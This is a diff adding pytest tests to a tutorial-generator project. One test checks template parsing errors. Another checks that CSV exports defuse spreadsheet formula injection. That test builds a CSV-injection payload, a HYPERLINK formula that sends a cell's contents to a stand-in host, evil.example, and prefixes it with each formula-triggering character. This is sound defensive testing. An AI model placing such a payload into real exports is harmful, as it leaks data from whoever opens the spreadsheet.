@@ -3,6 +3,9 @@ traceback, never a hang."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import os
 from collections.abc import Callable
 from pathlib import Path
@@ -10,7 +13,7 @@ from pathlib import Path
 import pytest
 
 from tutoral_gen.errors import ContentError
-from tutoral_gen.pipeline import Paths, check
+from tutoral_gen.pipeline import Paths, check, generate
 
 from .conftest import SCENARIO
 
@@ -108,3 +111,39 @@ def test_links_to_folders_and_to_nothing_are_refused(
         " copy the folder into content/ instead",
         "content/pages/gone.md: links to a file outside content/; copy it instead",
     ]
+
+
+def test_check_parses_the_project_templates(make_project: Callable[..., Paths]) -> None:
+    paths = make_project({"templates/sheet.md.j2": "# {{ i.title }}\n{% if i.title %}\nno end\n"})
+    with pytest.raises(ContentError) as caught:
+        check(paths)
+    lines = [str(p) for p in caught.value.problems]
+    assert lines == [
+        "templates/sheet.md.j2:3:1: template error: Unexpected end of template."
+        " Jinja was looking for the following tags: 'elif' or 'else' or 'endif'."
+        " The innermost block that needs to be closed is 'if'."
+    ], lines
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_never_become_formulas(make_project: Callable[..., Paths], start: str) -> None:
+    title = f'{start}HYPERLINK("http://evil.example/?"&A1;"click")'
+    text = SCENARIO.replace("title: Accueillir", f"title: {json.dumps(title)}")
+    paths = make_project({M1: text})
+    generate(paths)
+    raw = (paths.out / "docs/telechargements/interventions.csv").read_text(encoding="utf-8-sig")
+    rows = list(csv.reader(io.StringIO(raw), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    # A spreadsheet runs a cell as a formula when it starts with one of these; none does.
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [c for c in cells if c.startswith("-") and not _number(c)]
+    kept = title.strip()  # a title's surrounding white space is dropped when it is read
+    assert ("'" + kept if kept[0] in "=+-@" else kept) in cells  # the text is kept, quoted
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell.replace(",", "."))
+    except ValueError:
+        return False
+    return True
